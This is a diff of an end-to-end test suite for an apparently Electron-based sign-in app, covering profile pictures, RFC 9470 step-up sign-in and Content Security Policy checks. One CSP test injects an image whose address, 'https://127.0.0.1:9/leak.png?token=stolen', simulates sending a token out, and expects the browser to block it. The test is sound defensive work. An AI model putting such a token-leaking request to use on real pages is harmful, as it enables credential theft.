@@ -24,6 +24,7 @@ import { registerIpcHandlers } from '../../src/main/ipc-handlers.ts';
 import type { IpcInvokeEventLike, IpcMainLike } from '../../src/main/ipc-handlers.ts';
 import type { AuthApi, InvokeChannel } from '../../src/shared/ipc.ts';
 import { browserOpener, DEMO_ALICE, DEMO_BOB, launchBrowser } from '../../support/browser.ts';
+import { DEMO_ACR_TWO_STEP, DEMO_STEP_UP_MAX_AGE } from '../../src/shared/constants.ts';
 import { enterDeviceCode } from '../../support/device-approval.ts';
 import type { Browser, Page } from '../../support/browser.ts';
 import { demoEnv, startTestDemo } from '../helpers/demo.ts';
@@ -235,7 +236,9 @@ describe('the built renderer in Chromium, on the real core and demo provider', (
     expect(new URL(opener.urls[0] as string).searchParams.get('state')).not.toBe(new URL(parkedUrls[0] as string).searchParams.get('state'));
     expect(await page.locator('#user-name').textContent()).toBe('Alice Liddell');
     expect(await page.locator('#user-email').textContent()).toBe('alice@example.com');
-    expect(await page.locator('#avatar').isVisible()).toBe(true);
+    // The demo's picture, handed over by main as a data: URL (the only images the CSP allows besides the app's own).
+    await expect.poll(() => page.locator('#avatar').isVisible()).toBe(true);
+    expect(await page.locator('#avatar').getAttribute('src')).toMatch(/^data:image\/svg\+xml;base64,/);
     expect(await page.locator('#token-line').textContent()).toMatch(/^Access token refreshed \d\d:\d\d:\d\d, expires \d\d:\d\d:\d\d · bound to this computer \(DPoP\)$/);
     expect(await page.locator('#announcer').textContent()).toBe('Signed in as Alice Liddell.');
     await screenshot('signed-in');
@@ -496,14 +499,29 @@ describe('the built renderer in Chromium, on the real core and demo provider', (
       'getState',
       'offersDeviceSignIn',
       'onStateChange',
+      'profilePicture',
       'refreshAccessToken',
       'requestHeaders',
       'retryKeychain',
       'signIn',
       'signOut',
       'signOutAll',
+      'stepUp',
       'switchAccount',
     ]);
+    // An image address is no way out for a token: only the app's own images and data: load.
+    const leaked = await page.evaluate(`(async () => {
+      const image = document.createElement('img');
+      const loaded = new Promise((done) => { image.onload = () => done('loaded'); image.onerror = () => done('blocked'); });
+      image.src = 'https://127.0.0.1:9/leak.png?token=stolen';
+      document.body.append(image);
+      const outcome = await loaded;
+      image.remove();
+      return outcome;
+    })()`);
+    expect(leaked).toBe('blocked');
+    expect(await page.evaluate(() => (globalThis as unknown as PageGlobals).__cspViolations)).toEqual(['img-src https://127.0.0.1:9/leak.png?token=stolen']);
+    await page.evaluate(() => void ((globalThis as unknown as PageGlobals).__cspViolations.length = 0));
     const ran = await page.evaluate(`(async () => {
       const script = document.createElement('script');
       script.textContent = 'window.__inlineRan = true';
@@ -514,6 +532,37 @@ describe('the built renderer in Chromium, on the real core and demo provider', (
     expect(ran).toBe(false);
     const error = await page.evaluate(() => (globalThis as unknown as PageGlobals).auth.refreshAccessToken('').catch((e: { code: string }) => e.code));
     expect(error).toBe('invalid_argument');
+  });
+
+  it('an action that needs a stronger sign-in (RFC 9470): the window says why, the browser sign-in carries acr_values and max_age, and the call is sent once more and succeeds', async () => {
+    openWith = browserOpener(browser, DEMO_ALICE);
+    await page.click('#sign-in');
+    await visible('#view-signed-in');
+    // The step-up's browser waits until the test has read the window's words.
+    let release = () => {};
+    const gate = new Promise<void>((resolve) => (release = resolve));
+    const stepUpUrls: string[] = [];
+    const alice = browserOpener(browser, DEMO_ALICE);
+    openWith = async (url) => {
+      stepUpUrls.push(url);
+      await gate;
+      await alice(url);
+    };
+    await page.click('#call-strong');
+    await expect.poll(() => page.locator('#api-error').textContent()).toMatch(/^This action needs you to sign in again: This action needs the two-step sign-in \(password and one-time code\)\. Your browser opens for it/);
+    await expect.poll(() => stepUpUrls.length).toBe(1);
+    const asked = new URL(stepUpUrls[0]!).searchParams;
+    expect(asked.get('acr_values')).toBe(DEMO_ACR_TWO_STEP);
+    expect(asked.get('max_age')).toBe(String(DEMO_STEP_UP_MAX_AGE));
+    await screenshot('step-up-asked');
+    release();
+    await expect.poll(() => page.locator('#api-status').textContent(), { timeout: 30_000 }).toBe('200 OK');
+    const body = JSON.parse((await page.locator('#api-body').textContent()) as string) as { sub: string; claims: { acr?: string } };
+    expect(body).toMatchObject({ sub: 'alice', claims: { acr: DEMO_ACR_TWO_STEP } });
+    expect(alice.lastError).toBeUndefined();
+    await alice.close();
+    await page.click('#sign-out');
+    await visible('#view-signed-out');
   });
 
   it('several accounts: the avatar menu lists them (one added elsewhere shows up), switches, adds, signs out of one; the page’s calls act for the shown account', async () => {
